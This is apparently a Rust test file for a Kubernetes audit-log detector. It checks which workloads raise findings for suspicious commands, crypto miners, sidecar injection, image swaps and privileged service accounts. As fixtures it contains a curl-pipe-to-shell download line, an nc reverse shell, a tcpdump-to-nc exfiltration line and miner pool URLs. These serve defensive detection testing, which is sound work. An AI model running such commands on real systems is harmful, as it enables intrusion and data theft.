//! Every rule with the shapes that it is for, and with those that it leaves alone.

use suspicious_workloads::SuspiciousWorkloads;
use wardline_sdk::contract::{
    Attribute, AuditEvent, BindingFacts, Container, ContainerRole, Facts, Level, Workload,
};
use wardline_sdk::testing::{Harness, RaisedFinding, Request};

const ARGO: &str = "system:serviceaccount:argocd:argocd-application-controller";
const ETL: &str = "system:serviceaccount:data:etl";
const DOWNLOAD: [&str; 3] = ["sh", "-c", "curl -s http://203.0.113.9/i.sh | sh"];

fn request(verb: &str, resource: &str, namespace: &str, name: &str) -> Request {
    let code = if verb == "create" { 201 } else { 200 };
    let group = match resource.split('/').next().unwrap_or_default() {
        "jobs" | "cronjobs" => "batch",
        "deployments" | "daemonsets" | "statefulsets" | "replicasets" => "apps",
        _ => "",
    };
    Request::new(verb, resource)
        .api_group(group)
        .namespace(namespace)
        .name(name)
        .code(code)
}

fn container(name: &str, image: &str, command: &[&str]) -> Container {
    Container {
        name: name.to_owned(),
        image: image.to_owned(),
        command: command.iter().map(ToString::to_string).collect(),
        ..Container::default()
    }
}

fn of(containers: impl IntoIterator<Item = Container>) -> Workload {
    Workload {
        containers: containers.into_iter().collect(),
        ..Workload::default()
    }
}

fn app(command: &[&str]) -> Workload {
    of([container("app", "nginx:1.29", command)])
}

fn pair(key: &str, value: &str) -> Attribute {
    Attribute {
        key: key.to_owned(),
        value: value.to_owned(),
    }
}

/// The types without `:Kubernetes/`, and the severities, in order.
fn shown(found: &[RaisedFinding]) -> Vec<String> {
    found
        .iter()
        .map(|one| {
            let name = one.finding_type.replace(":Kubernetes/", ":");
            format!("{name} {:.1}", one.severity)
        })
        .collect()
}

/// An event that was built has no JSON that the detector could ask for; at this level it
/// asks for none.
fn built(event: impl Into<AuditEvent>) -> AuditEvent {
    AuditEvent {
        level: Level::Metadata,
        ..event.into()
    }
}

fn judge(event: impl Into<AuditEvent>) -> Vec<String> {
    found(&mut Harness::new(), event)
}

fn found(harness: &mut Harness<SuspiciousWorkloads>, event: impl Into<AuditEvent>) -> Vec<String> {
    shown(&harness.audit_event(built(event)).unwrap())
}

#[test]
fn ordinary_work_is_quiet() {
    for event in [
        request("create", "deployments", "shop", "web").workload(app(&[])),
        request("create", "pods", "shop", "tmp").workload(app(&["sleep", "1d"])),
        request("create", "jobs", "data", "adhoc").workload(app(&["sh", "-c", "pg_dump app > /x"])),
        request("patch", "deployments", "shop", "web").workload(app(&[])),
        request("create", "daemonsets", "monitoring", "agent")
            .user(ARGO)
            .workload(app(&[])),
        request("create", "deployments", "kube-system", "addon")
            .user("system:serviceaccount:kube-system:addon-manager")
            .workload(app(&[])),
        request("create", "pods", "shop", "web-1")
            .user("system:serviceaccount:kube-system:replicaset-controller")
            .group("system:serviceaccounts")
            .workload(app(&DOWNLOAD)),
        request("create", "deployments", "shop", "web")
            .code(403)
            .workload(app(&DOWNLOAD)),
    ] {
        assert_eq!(judge(event.clone()), Vec::<String>::new(), "{event:?}");
    }
}

#[test]
fn commands_are_found_in_every_kind_of_workload() {
    for (verb, resource, also) in [
        ("create", "pods", None),
        ("create", "deployments", None),
        ("update", "statefulsets", None),
        ("patch", "replicasets", None),
        ("create", "jobs", None),
        ("create", "podtemplates", None),
        ("create", "replicationcontrollers", None),
        ("create", "daemonsets", Some("Persistence:DaemonSet 6.0")),
        ("create", "cronjobs", Some("Persistence:CronJob 6.0")),
    ] {
        let found = judge(request(verb, resource, "shop", "x").workload(app(&DOWNLOAD)));
        let expected: Vec<&str> = [Some("Execution:SuspiciousWorkloadCommand 6.0"), also]
            .into_iter()
            .flatten()
            .collect();
        assert_eq!(found, expected, "{verb} {resource}");
    }
}

#[test]
fn commands_are_found_wherever_they_stand() {
    let plain = || container("app", "nginx", &[]);
    let mut init = container("setup", "alpine", &DOWNLOAD);
    init.role = ContainerRole::Init;
    let mut arguments = plain();
    arguments.arguments = vec!["-c".to_owned(), DOWNLOAD[2].to_owned()];
    let mut hook = plain();
    hook.hooks = vec![pair("lifecycle.postStart", &DOWNLOAD.join(" "))];
    let mut variable = plain();
    variable.environment = vec![pair("SCRIPT", DOWNLOAD[2])];
    for (container, place) in [
        (
            init,
            "requestObject.spec.template.spec.initContainers[0].command",
        ),
        (
            arguments,
            "requestObject.spec.template.spec.containers[0].args",
        ),
        (
            hook,
            "requestObject.spec.template.spec.containers[0].lifecycle.postStart",
        ),
        (
            variable,
            "requestObject.spec.template.spec.containers[0].env[name=SCRIPT].value",
        ),
    ] {
        let event = request("create", "deployments", "shop", "web")
            .requested(Facts::Workload(of([container])));
        let mut harness = Harness::<SuspiciousWorkloads>::new();
        let found = harness.audit_event(event).unwrap();
        assert_eq!(
            shown(&found),
            ["Execution:SuspiciousWorkloadCommand 6.0"],
            "{place}"
        );
        assert_eq!(
            found[0].evidence(place),
            Some("curl -s http://203.0.113.9/i.sh | sh"),
            "{place}"
        );
    }
}

#[test]
fn variables_that_only_name_things_are_no_commands() {
    let mut with = container("app", "velero", &[]);
    with.environment = vec![
        pair("AWS_SHARED_CREDENTIALS_FILE", "/root/.aws/credentials"),
        pair(
            "AWS_EC2_METADATA_SERVICE_ENDPOINT",
            "http://169.254.169.254",
        ),
        pair("DATABASE_URL", "postgres://db/app?pool=5"),
        pair("KUBECONFIG", "/etc/kubernetes/admin.conf"),
    ];
    assert!(
        judge(request("create", "deployments", "velero", "velero").workload(of([with]))).is_empty()
    );
}

#[test]
fn what_was_there_before_is_no_news() {
    let mut harness = Harness::<SuspiciousWorkloads>::new().pod_spec(
        "deployments",
        "shop",
        "web",
        app(&DOWNLOAD),
    );
    let again = request("update", "deployments", "shop", "web").workload(app(&DOWNLOAD));
    assert!(harness.audit_event(again).unwrap().is_empty());
    let other = request("patch", "deployments", "shop", "web").workload(app(&[
        "nc",
        "203.0.113.9",
        "44",
        "-e",
        "sh",
    ]));
    let found = harness.audit_event(other).unwrap();
    assert_eq!(shown(&found), ["Execution:SuspiciousWorkloadCommand 8.0"]);
    // A robot that sends the whole object, of which the log has not told before.
    let robot = request("update", "deployments", "shop", "api")
        .user(ARGO)
        .workload(app(&DOWNLOAD));
    assert_eq!(judge(robot), ["Execution:SuspiciousWorkloadCommand 3.0"]);
}

#[test]
fn robots_that_make_the_same_pods_are_known_after_the_first() {
    let mut harness = Harness::<SuspiciousWorkloads>::new();
    let job = |name: &str| {
        request("create", "jobs", "data", name)
            .user(ETL)
            .workload(app(&DOWNLOAD))
    };
    let found = harness
        .audit_events([job("etl-1"), job("etl-2"), job("etl-3")].map(built))
        .unwrap();
    assert_eq!(shown(&found), ["Execution:SuspiciousWorkloadCommand 6.0"]);
}

#[test]
fn miners_are_found_by_image_command_and_pool() {
    for container in [
        container("c", "docker.io/metal3d/xmrig:6.21", &[]),
        container(
            "c",
            "alpine",
            &["./x", "-o", "stratum+tcp://pool.example:4444"],
        ),
        container(
            "c",
            "ghcr.example/lolminer:1.88",
            &["--algo", "ETCHASH", "--pool", "p:1010"],
        ),
    ] {
        let event = request("create", "jobs", "data", "train").workload(of([container]));
        assert_eq!(judge(event), ["Impact:CryptoMiner 8.0"]);
    }
    let mut variable = container("c", "alpine", &[]);
    variable.environment = vec![pair("POOL_URL", "stratum+ssl://pool.example:443")];
    assert_eq!(
        judge(request("create", "pods", "data", "x").workload(of([variable]))),
        ["Impact:CryptoMiner 8.0"]
    );
}

#[test]
fn images_for_attacks_and_registries_that_are_not_allowed() {
    let kali = || of([container("c", "kalilinux/kali-rolling", &["sleep", "1d"])]);
    let event = request("create", "pods", "shop", "x").workload(kali());
    assert_eq!(judge(event.clone()), ["Execution:SuspiciousImage 5.0"]);
    let mut harness = Harness::<SuspiciousWorkloads>::new().setting(
        "allowed-registries",
        ["registry.example.com/", "docker.io/library/"],
    );
    let mut with = |image: &str| {
        let event =
            request("create", "pods", "shop", "x").workload(of([container("c", image, &[])]));
        shown(&harness.audit_event(event).unwrap())
    };
    assert!(with("registry.example.com/app:1").is_empty());
    assert!(with("nginx:1.29").is_empty());
    assert!(with("docker.io/library/nginx").is_empty());
    assert_eq!(
        with("evil.example.net:5000/x"),
        ["Policy:DisallowedRegistry 5.0"]
    );
    assert_eq!(with("someone/x"), ["Policy:DisallowedRegistry 5.0"]);
    let mut harness =
        Harness::<SuspiciousWorkloads>::new().setting("trusted-images", ["kalilinux/"]);
    assert!(harness.audit_event(event).unwrap().is_empty());
}

#[test]
fn cron_jobs() {
    let new = |namespace, user| {
        request("create", "cronjobs", namespace, "x")
            .user(user)
            .workload(app(&["/run"]))
    };
    assert_eq!(judge(new("shop", "alice")), ["Persistence:CronJob 2.0"]);
    assert_eq!(judge(new("shop", ARGO)), ["Persistence:CronJob 2.0"]);
    assert_eq!(
        judge(new("kube-system", "alice")),
        ["Persistence:CronJob 5.0"]
    );
    assert_eq!(judge(new("kube-system", ARGO)), ["Persistence:CronJob 2.0"]);
    // Without bodies in the log.
    let bare = request("create", "cronjobs", "kube-system", "x");
    assert_eq!(judge(bare), ["Persistence:CronJob 5.0"]);
    // The next of the same account in the namespace.
    let mut harness = Harness::<SuspiciousWorkloads>::new();
    let both = [
        new("shop", "alice"),
        request("create", "cronjobs", "shop", "y").workload(app(&[])),
    ];
    assert_eq!(harness.audit_events(both.map(built)).unwrap().len(), 1);
}

#[test]
fn cron_jobs_that_run_something_else() {
    let harness = |by: &str| {
        Harness::<SuspiciousWorkloads>::new()
            .pod_spec("cronjobs", "shop", "x", app(&["/run"]))
            .changed_by("cronjobs", "shop", "x", by)
    };
    let change =
        |command: &[&str]| request("patch", "cronjobs", "shop", "x").workload(app(command));
    let other = || change(&["/other"]);
    assert_eq!(
        found(&mut harness(ARGO), other()),
        ["Persistence:CronJob 3.0"]
    );
    assert!(found(&mut harness("alice"), other()).is_empty());
    assert!(found(&mut harness(ARGO), change(&["/run"])).is_empty());
}

#[test]
fn daemon_sets_of_people() {
    let new = |user| {
        request("create", "daemonsets", "monitoring", "x")
            .user(user)
            .workload(app(&[]))
    };
    assert_eq!(judge(new("alice")), ["Persistence:DaemonSet 3.0"]);
    assert!(judge(new(ARGO)).is_empty());
    // An apply makes it too; a rollout does not.
    let applied = request("patch", "daemonsets", "monitoring", "x")
        .code(201)
        .workload(app(&[]));
    assert_eq!(judge(applied), ["Persistence:DaemonSet 3.0"]);
    assert!(judge(request("patch", "daemonsets", "monitoring", "x").workload(app(&[]))).is_empty());
}

#[test]
fn workloads_in_namespaces_of_the_cluster() {
    let new = |namespace, user| {
        request("create", "deployments", namespace, "addon")
            .user(user)
            .workload(app(&[]))
    };
    let system = "Persistence:WorkloadInSystemNamespace";
    assert_eq!(
        judge(new("kube-system", "alice")),
        [format!("{system} 3.0")]
    );
    assert_eq!(judge(new("kube-system", ARGO)), [format!("{system} 2.0")]);
    assert_eq!(
        judge(new("kube-public", "alice")),
        [format!("{system} 5.0")]
    );
    assert!(judge(new("shop", "alice")).is_empty());
    let bare = request("create", "pods", "kube-system", "x");
    assert_eq!(judge(bare), [format!("{system} 3.0")]);
}

fn deployed_by(by: &str) -> Harness<SuspiciousWorkloads> {
    Harness::new()
        .pod_spec("deployments", "shop", "web", app(&[]))
        .changed_by("deployments", "shop", "web", by)
}

#[test]
fn containers_that_are_added() {
    let patch = |command: &[&str]| {
        request("patch", "deployments", "shop", "web")
            .uri("/apis/apps/v1/namespaces/shop/deployments/web?fieldManager=kubectl-patch")
            .requested(Facts::Workload(of([container(
                "log-agent",
                "x/agent",
                command,
            )])))
    };
    let sidecar = |severity: &str| vec![format!("Persistence:SidecarInjected {severity}")];
    let found = |by: &str, event: Request| found(&mut deployed_by(by), event);
    assert_eq!(found(ARGO, patch(&[])), sidecar("5.0"));
    assert_eq!(found("bob", patch(&[])), sidecar("3.0"));
    assert!(found("alice", patch(&[])).is_empty());
    assert!(found(ARGO, patch(&[]).user(ARGO)).is_empty());
    assert_eq!(found(ARGO, patch(&[]).user(ETL)), sidecar("3.0"));
    // A controller's own writes do not say who deploys.
    let controller = "system:serviceaccount:kube-system:deployment-controller";
    assert_eq!(found(controller, patch(&[])), sidecar("5.0"));
    assert_eq!(
        found(
            "alice",
            patch(&["sh", "-c", "tcpdump -w - | nc 203.0.113.9 9000"])
        ),
        [
            "Execution:SuspiciousWorkloadCommand 5.0",
            "Persistence:SidecarInjected 6.0"
        ]
    );
    let applied = patch(&[]).uri("/x?fieldManager=kubectl-client-side-apply");
    let mut unknown =
        Harness::<SuspiciousWorkloads>::new().pod_spec("deployments", "shop", "web", app(&[]));
    assert_eq!(
        shown(&unknown.audit_event(applied).unwrap()),
        sidecar("3.0")
    );
    // Nothing is known of before.
    assert!(judge(patch(&[])).is_empty());
}

#[test]
fn images_that_are_exchanged() {
    let patch = |image: &str| {
        request("patch", "deployments", "shop", "web")
            .uri("/x?fieldManager=kubectl-set")
            .requested(Facts::Workload(of([container("app", image, &[])])))
    };
    let swapped = |severity: &str| vec![format!("Execution:ImageSwapped {severity}")];
    let found = |by: &str, event: Request| found(&mut deployed_by(by), event);
    assert_eq!(found(ARGO, patch("attacker/app")), swapped("5.0"));
    assert_eq!(
        found(ARGO, patch("mirror.example.com/nginx")),
        swapped("3.0")
    );
    assert_eq!(found("bob", patch("attacker/app")), swapped("3.0"));
    assert!(found("alice", patch("attacker/app")).is_empty());
    assert!(found(ARGO, patch("nginx:1.30")).is_empty());
}

fn bound(name: &str) -> Harness<SuspiciousWorkloads> {
    Harness::new().binding(BindingFacts {
        kind: "ClusterRoleBinding".to_owned(),
        name: "admins".to_owned(),
        role_kind: "ClusterRole".to_owned(),
        role_name: "cluster-admin".to_owned(),
        subjects: vec![wardline_sdk::contract::Subject {
            kind: "ServiceAccount".to_owned(),
            namespace: "ops".to_owned(),
            name: name.to_owned(),
        }],
        ..BindingFacts::default()
    })
}

fn with_account(account: &str) -> Workload {
    Workload {
        service_account: account.to_owned(),
        ..app(&[])
    }
}

#[test]
fn service_accounts_of_far_reaching_rights() {
    let strong = |severity: &str| {
        vec![format!(
            "PrivilegeEscalation:PrivilegedServiceAccountPod {severity}"
        )]
    };
    let new = |resource: &str, namespace: &str, account: &str| {
        request("create", resource, namespace, "x").workload(with_account(account))
    };
    let admin = |request: Request| {
        let reason = "RBAC: allowed by ClusterRoleBinding \"a\" of ClusterRole \"cluster-admin\" to Group \"ops\"";
        request.annotation("authorization.k8s.io/reason", reason)
    };
    assert_eq!(
        judge(new("pods", "argocd", "argocd-application-controller")),
        strong("6.0")
    );
    assert_eq!(
        judge(admin(new(
            "pods",
            "argocd",
            "argocd-application-controller"
        ))),
        strong("5.0")
    );
    assert_eq!(
        judge(admin(new("jobs", "argocd", "argocd-server"))),
        strong("3.0")
    );
    let found = found(&mut bound("robot"), new("cronjobs", "ops", "robot"));
    assert!(found.contains(&strong("6.0")[0]), "{found:?}");
    let found = bound("robot")
        .audit_event(new("deployments", "ops", "robot"))
        .unwrap();
    assert_eq!(shown(&found), strong("5.0"));
    // A chart's own account.
    let own = request("create", "deployments", "ops", "robot-web").workload(with_account("robot"));
    assert!(bound("robot").audit_event(own).unwrap().is_empty());
    assert!(
        bound("robot")
            .audit_event(admin(new("deployments", "ops", "robot")))
            .unwrap()
            .is_empty()
    );
    assert!(
        bound("other")
            .audit_event(new("pods", "ops", "robot"))
            .unwrap()
            .is_empty()
    );
    // A robot that makes pods with its own account gains nothing.
    let runner = new("pods", "ops", "robot").user("system:serviceaccount:ops:robot");
    assert!(bound("robot").audit_event(runner).unwrap().is_empty());
    let other = new("pods", "ops", "robot").user("system:serviceaccount:ops:ci");
    assert_eq!(
        shown(&bound("robot").audit_event(other).unwrap()),
        strong("6.0")
    );
    // The control plane's own accounts.
    let found = judge(new(
        "pods",
        "kube-system",
        "clusterrole-aggregation-controller",
    ));
    assert!(found.contains(&strong("7.0")[0]), "{found:?}");
    // It was so before.
    let mut harness = bound("robot").pod_spec("deployments", "ops", "x", with_account("robot"));
    let again = request("update", "deployments", "ops", "x").workload(with_account("robot"));
    assert!(harness.audit_event(again).unwrap().is_empty());
}

#[test]
fn names_of_the_cluster_s_parts() {
    let masked = "DefenseEvasion:SystemPodMasquerade";
    let new = |namespace: &str, name: &str, image: &str| {
        judge(
            request("create", "deployments", namespace, name).workload(of([container(
                "c",
                image,
                &[],
            )])),
        )
    };
    assert_eq!(
        new("shop", "kube-proxy", "alpine"),
        [format!("{masked} 5.0")]
    );
    assert_eq!(
        new("shop", "coredns-6c5bb44588-nz6nx", "alpine"),
        [format!("{masked} 5.0")]
    );
    assert_eq!(
        new("shop", "kube-apiservr", "alpine"),
        [format!("{masked} 5.0")]
    );
    assert!(new("shop", "coredns", "registry.k8s.io/coredns/coredns:v1").is_empty());
    assert!(new("shop", "etcd", "bitnami/etcd").is_empty());
    assert!(new("shop", "kube-gc", "alpine").is_empty());
    assert_eq!(
        new("kube-system", "kube-gc", "alpine")[0],
        format!("{masked} 3.0")
    );
    assert_eq!(
        new("kube-system", "kube-vip", "ghcr.io/kube-vip/kube-vip"),
        ["Persistence:WorkloadInSystemNamespace 3.0"]
    );
}

#[test]
fn leaps_in_what_is_asked_for() {
    let hijack = ["Impact:ResourceHijack 3.0"];
    let replicas = |count: i64| Workload {
        replicas: Some(count),
        ..app(&[])
    };
    let harness = || {
        Harness::<SuspiciousWorkloads>::new().pod_spec("deployments", "shop", "web", replicas(3))
    };
    let update = |count| request("update", "deployments", "shop", "web").workload(replicas(count));
    assert_eq!(shown(&harness().audit_event(update(100)).unwrap()), hijack);
    assert!(harness().audit_event(update(30)).unwrap().is_empty());
    let scale =
        |count| request("patch", "deployments/scale", "shop", "web").requested(Facts::Scale(count));
    assert_eq!(shown(&harness().audit_event(scale(500)).unwrap()), hijack);
    assert!(harness().audit_event(scale(0)).unwrap().is_empty());
    let mut training = container("c", "pytorch", &[]);
    training.quantities = vec![pair("limits.nvidia.com/gpu", "8"), pair("limits.cpu", "64")];
    let with = |count| Workload {
        replicas: Some(count),
        ..of([training.clone()])
    };
    let new = |count| request("create", "statefulsets", "data", "train").workload(with(count));
    assert_eq!(judge(new(2)), hijack);
    assert!(judge(new(1)).is_empty());
}

/// The number of pods of a Job is no fact: it is read from the event.
#[test]
fn jobs_with_many_pods() {
    let line = |parallelism: u32| {
        format!(
            r#"{{"kind":"Event","apiVersion":"audit.k8s.io/v1","level":"Request","auditID":"{parallelism}","stage":"ResponseComplete","requestURI":"/apis/batch/v1/namespaces/data/jobs","verb":"create","user":{{"username":"dave"}},"sourceIPs":["192.0.2.1"],"objectRef":{{"resource":"jobs","namespace":"data","name":"train","apiGroup":"batch","apiVersion":"v1"}},"responseStatus":{{"code":201}},"requestObject":{{"kind":"Job","apiVersion":"batch/v1","metadata":{{"name":"train"}},"spec":{{"parallelism":{parallelism},"template":{{"spec":{{"containers":[{{"name":"t","image":"pytorch"}}]}}}}}}}},"requestReceivedTimestamp":"2026-01-01T00:00:00.000000Z","stageTimestamp":"2026-01-01T00:00:00.000000Z"}}"#
        )
    };
    let mut harness = Harness::<SuspiciousWorkloads>::new();
    assert!(harness.audit_line(&line(10)).unwrap().is_empty());
    let found = harness.audit_line(&line(5000)).unwrap();
    assert_eq!(shown(&found), ["Impact:ResourceHijack 3.0"]);
    assert_eq!(
        found[0].evidence("requestObject.spec.parallelism"),
        Some("5000")
    );
}

#[test]
fn json_patches_are_judged_by_what_they_name() {
    let line = |patch: &str| {
        format!(
            r#"{{"kind":"Event","apiVersion":"audit.k8s.io/v1","level":"RequestResponse","auditID":"{}","stage":"ResponseComplete","requestURI":"/apis/apps/v1/namespaces/shop/deployments/web","verb":"patch","user":{{"username":"mallory"}},"sourceIPs":["192.0.2.1"],"objectRef":{{"resource":"deployments","namespace":"shop","name":"web","apiGroup":"apps","apiVersion":"v1"}},"responseStatus":{{"code":200}},"requestObject":{patch},"responseObject":{{"kind":"Deployment","apiVersion":"apps/v1","metadata":{{"name":"web"}},"spec":{{"template":{{"spec":{{"containers":[{{"name":"app","image":"nginx"}},{{"name":"x","image":"metal3d/xmrig"}}]}}}}}}}},"requestReceivedTimestamp":"2026-01-01T00:00:00.000000Z","stageTimestamp":"2026-01-01T00:00:00.000000Z"}}"#,
            patch.len()
        )
    };
    let adds = r#"[{"op":"add","path":"/spec/template/spec/containers/-","value":{"name":"x","image":"metal3d/xmrig"}}]"#;
    let labels = r#"[{"op":"add","path":"/metadata/labels/a","value":"b"}]"#;
    let found = deployed_by(ARGO).audit_line(&line(adds)).unwrap();
    assert_eq!(
        shown(&found),
        ["Impact:CryptoMiner 8.0", "Persistence:SidecarInjected 6.0"]
    );
    assert_eq!(
        found[0].evidence("requestObject.spec.template.spec.containers[0].image"),
        Some("metal3d/xmrig")
    );
    let mut unknown = Harness::<SuspiciousWorkloads>::new();
    let found = unknown.audit_line(&line(adds)).unwrap();
    assert_eq!(shown(&found), ["Impact:CryptoMiner 8.0"]);
    let mut unknown = Harness::<SuspiciousWorkloads>::new();
    assert!(unknown.audit_line(&line(labels)).unwrap().is_empty());
}

#[test]
fn the_operator_s_trust() {
    let event = || request("create", "cronjobs", "kube-system", "x").workload(app(&DOWNLOAD));
    for harness in [
        Harness::<SuspiciousWorkloads>::new().setting("trusted-users", ["alice"]),
        Harness::<SuspiciousWorkloads>::new().setting("trusted-namespaces", ["kube-system"]),
    ] {
        let mut harness = harness;
        assert!(found(&mut harness, event()).is_empty());
    }
    let mut wrong = Harness::<SuspiciousWorkloads>::new().setting("replicas", 0);
    assert!(wrong.configure().is_err());
}
